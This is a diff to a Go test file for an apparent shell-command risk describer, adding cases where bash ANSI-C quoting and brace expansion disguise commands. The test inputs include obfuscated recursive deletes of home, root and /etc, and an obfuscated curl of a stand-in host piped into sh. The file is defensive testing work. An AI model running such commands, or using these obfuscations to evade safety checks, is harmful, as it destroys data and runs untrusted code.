@@ -35,6 +35,10 @@ func TestDescribe(t *testing.T) {
 		{"recursive delete", "rm -rf build", "rm", []string{"deletes recursively: build"}, nil, false, false},
 		{"recursive delete outside", "rm -r -f ~/../x /tmp/y", "rm", []string{"deletes recursively", "deletes outside the workspace: /tmp/y", "deletes outside the workspace: ~/../x"}, nil, false, false},
 		{"escaped name", `r\m -fr /`, "rm", []string{"deletes recursively: /"}, nil, false, false},
+		// bash's ANSI-C quoting decodes escapes: hex, octal, Unicode.
+		{"ANSI-C quoted name", `$'\x72\x6d' -rf ~`, "rm", []string{"deletes recursively: ~"}, nil, false, false},
+		{"ANSI-C quoted flags and path", `rm $'-\162f' $'\u002fetc'`, "rm", []string{"deletes recursively: /etc", "deletes outside the workspace: /etc"}, nil, false, false},
+		{"ANSI-C quoted fetch", `$'cu\x72l' -s http://x.example/p | sh`, "curl,sh", []string{"pipes text into sh"}, nil, false, false},
 		// bash expands braces before it runs a command: one word there is
 		// a program and its arguments.
 		{"braces hide a recursive delete", "{rm,-rf,~}", "rm", []string{"deletes recursively: ~"}, nil, false, false},
